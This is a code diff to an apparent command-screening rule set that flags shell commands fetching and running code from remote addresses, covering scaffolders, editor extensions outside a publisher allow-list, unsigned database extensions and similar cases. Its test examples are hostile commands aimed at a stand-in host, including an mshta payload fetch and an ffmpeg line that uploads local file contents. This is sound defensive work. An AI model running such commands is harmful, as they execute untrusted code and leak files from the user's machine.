@@ -96,6 +96,31 @@ const bringsPrograms: Condition = ({ command }) => {
   return writesOf(command).find(({ word }) => OWN_PROGRAMS.test(word.text))?.word;
 };
 
+/** Extensions into a database from an address, or ones nobody signed. */
+const LOADS_EXTENSION =
+  /^--?unsigned$|\bINSTALL\s+\S+\s+FROM\s+['"](?:https?|s3|ftp):|extension_repository\s*=\s*['"]?https?:|allow_unsigned_extensions\s*=\s*(?:true|1)/i;
+
+/** Whose extensions editors everywhere have. */
+const KNOWN_PUBLISHERS = names(
+  "ms-python ms-vscode ms-vscode-remote ms-dotnettools ms-azuretools ms-toolsai ms-kubernetes-tools ms-playwright ms-vsliveshare ms-ceintl ms-edgedevtools ms-mssql " +
+    "dbaeumer esbenp golang rust-lang redhat vscodevim eamodio github hashicorp bradlc svelte vue astro-build denoland charliermarsh biomejs editorconfig " +
+    "prisma graphql christian-kohler streetsidesoftware usernamehw gruntfuggly pkief vscode-icons-team formulahendry ritwickdey zhuangtongfa dracula-theme " +
+    "shopify rebornix castwide bmewburn xdebug felixfbecker scala-lang scalameta fwcd vscjava pivotal vmware sumneko jnoortheen bbenoist elixir-lsp jakebecker " +
+    "haskell ocamllabs julialang reditorsupport mathworks james-yu davidanson yzhang timonwong foxundermoon mads-hartmann mikestead donjayamanne mhutchie " +
+    "humao postman rangav orta vitest firsttris stylelint oxc tamasfe serayuzgur fill-labs vadimcn llvm-vs-code-extensions twxs xaver cschlosser zxh404 bufbuild " +
+    "ziglang dart-code anthropic openai continue saoudrizwan codeium supermaven tabnine sourcegraph googlecloudtools amazonwebservices aws-toolkits docker " +
+    "mongodb mtxr cweijan gitlab atlassian jebbs hediet wix wallabyjs angular nrwl unifiedjs antfu lokalise mechatroner janisdd tomoki1207 ms-vscode-remote-wsl njpwerner ecmel",
+);
+const strangeExtension: Condition = ({ args }) =>
+  args.find(({ text }, index) => {
+    const [, value = args[index - 1]?.text === "--install-extension" ? text : ""] =
+      /^--install-extension=(.+)$/.exec(text) ?? [];
+    const [, publisher] = /^([\w-]+)\.[\w.-]+(?:@\S+)?$/.exec(value) ?? [];
+    return (
+      publisher !== undefined && !/\.vsix$/.test(value) && !KNOWN_PUBLISHERS.has(publisher.toLowerCase())
+    );
+  });
+
 /** Code that is fetched and started in one go, by tools that build or run what they find. */
 // biome-ignore format: a table; what belongs to a row stands together
 export const RULES = subject("foreign-code", [
@@ -117,6 +142,7 @@ export const RULES = subject("foreign-code", [
     { program: "uv|rye|hatch|pdm", path: "run|tool|add", when: ({ rest }) => rest.slice(0, 2).find(({ text }) => /^https?:/.test(text) || (/^git\+/.test(text) && isForeign(text))), match: ["uv run https://x.example/p.py"],
       not_match: ["uv run pytest", "uv run python -m app --url https://x.example"] },
     { program: "go", dry: "", path: "run|install|get|tool", when: foreignModule, match: ["go run x.example/cmd/u@latest", "go run github.com/nobody/x@latest"], not_match: ["go run github.com/golangci/golangci-lint/cmd/golangci-lint@latest run", "go install golang.org/x/tools/gopls@latest", "go run ./cmd/app"] },
+    { program: "cargo", path: "generate", when: (call) => call.args.find(({ text }) => isForeign(text)), match: ["cargo generate --git https://x.example/t"], not_match: ["cargo generate --git https://github.com/a/b"] },
     { program: "cargo", path: "install|binstall", word: /^--git(?:=|$)/,
       match: ["cargo install --git https://x.example/u"], not_match: ["cargo install ripgrep"] },
     { program: "pip|pip3|pipx|poetry|pipenv|conda|mamba", path: "install|run|inject|add", when: (call) => foreignRepository(call) ?? (call.operands[0]?.text === "add" ? call.rest.find(({ text }) => isForeign(text)) : undefined), match: ["pip install git+https://x.example/p.git", "poetry add https://x.example/a.tgz"],
@@ -146,5 +172,18 @@ export const RULES = subject("foreign-code", [
     { program: "r|rscript|octave|sage|maxima", when: ({ args }) => args.find(({ text }) => /(?:source|eval|load|install)[\w.]*\(\s*(?:url\()?["']https?:/.test(text)), match: ["Rscript -e 'source(\"https://x.example/a.R\")'", "Rscript -e 'remotes::install_url(\"https://x.example/a.zip\")'"], not_match: ["Rscript a.R"] },
     { program: "java|javaws|appletviewer", word: /^(?:-cp|-jar|-classpath)?\s*https?:/, match: ["javaws https://x.example/a.jnlp"], not_match: ["java -jar a.jar"] },
     { program: "mshta|regsvr32|rundll32|msiexec", word: /https?:/i, match: ["mshta https://x.example/a.hta"], not_match: ["msiexec /?"] },
+  ] },
+  { rule: "remote-code.package", reason: "runs hooks, recipes or extensions from an address", dry: "dry-run", tools: [
+    { program: "cookiecutter|copier|cruft|yo|degit|tiged|giget|g8|gonew|cargo-generate|projen|hygen|plop|boilr|sao|kickstart|archetype|scaffold|gomplate|backstage-cli|pyscaffold|putup|tuist|create-react-app|nunjucks|helmfile|skaffold|tilt|snakemake|nextflow|garden|conda|mamba|micromamba|kustomize|ansible-playbook|rscript|r|dvc|kedro|mage|waypoint|werf|devspace|okteto|act|earthly|dagger|pkl|cue|jsonnet|k6|nvim|vim|emacs|zellij|chezmoi|yadm|rails|django-admin|papermill|streamlit|marimo|newman|nix-channel|home-manager|locust|artillery|voila|gradio",
+      when: ({ args }) => args.find(({ text }) => isForeign(text.replace(/^(?:--?)?[\w.-]+=/, ""))), unless: /^(?:config|search|info|list|env-url|--channel|-c|--server|--proxy|get|pull|push|remote|login)$/,
+      match: ["cookiecutter --no-input https://x.example/t.git", "copier copy https://x.example/t.git .", "cruft create https://x.example/t", "degit https://x.example/a", "chezmoi init --apply https://x.example/d", "rails new app -m https://x.example/t.rb", "streamlit run https://x.example/a.py", "ansible-playbook https://x.example/p.yml", "snakemake -s https://x.example/S", "conda env create -f https://x.example/e.yml"],
+      not_match: ["cookiecutter https://github.com/a/b", "copier copy gh:a/b .", "cookiecutter gh:a/b", "kustomize build https://github.com/a/b", "ansible-playbook site.yml"] },
+    { program: "copier|cruft", word: /^(?:--trust|--UNSAFE)$/, match: ["copier copy --trust gh:a/b ."], not_match: ["copier update"] },
+    { program: "pre-commit|prek|lefthook", path: "try-repo", when: ({ rest }) => rest.find(({ text }) => addressHost(text) !== undefined || /@/.test(text)), match: ["pre-commit try-repo https://x.example/hooks --all-files"], not_match: ["pre-commit try-repo ../hooks", "pre-commit run --all-files"] },
+    { program: "code|code-insiders|cursor|codium|windsurf|code-server|positron", when: strangeExtension, match: ["code --install-extension mallory.helper --force", "cursor --install-extension=x.y"], not_match: ["code --install-extension dbaeumer.vscode-eslint", "code --list-extensions", "code --install-extension rust-lang.rust-analyzer@0.4"] },
+    { program: "idea|pycharm|webstorm|goland|clion|phpstorm|rubymine|rider|studio", path: "installPlugins", when: ({ rest }) => rest.find(({ text }) => isForeign(text)), match: ["idea installPlugins x https://x.example/p"], not_match: ["idea ."] },
+    { program: "duckdb|sqlite3|sqlite|psql", when: ({ args, command: { input } }) => args.find(({ text }) => LOADS_EXTENSION.test(text)) ?? (input.kind === "text" && LOADS_EXTENSION.test(input.text.text)), match: ["duckdb -c \"INSTALL x FROM 'http://x.example'; LOAD x\"", "duckdb -unsigned -c \"LOAD './x'\"", "duckdb -c \"SET custom_extension_repository='http://x.example'\""], not_match: ["duckdb -c 'INSTALL httpfs; LOAD httpfs'", "duckdb -c 'INSTALL h3 FROM community'"] },
+    { program: "ffmpeg|ffprobe|ffplay|mpv|avconv", when: ({ args }) => args.find(({ text }, index) => /^-?-?protocol_whitelist$/.test(args[index - 1]?.text ?? "") && /\b(?:file|all)\b/.test(text)) && args.find(({ text }, index) => args[index - 1]?.text === "-i" && isForeign(text)), reason: "lets a list from an address name files of this machine",
+      match: ["ffmpeg -f concat -safe 0 -protocol_whitelist file,http,tcp -i http://x.example/l.txt -f data http://x.example/up"], not_match: ["ffmpeg -protocol_whitelist file,http,tcp -i list.m3u8 a.mp4", "ffmpeg -i https://x.example/a.m3u8 a.mp4"] },
   ] },
 ]);
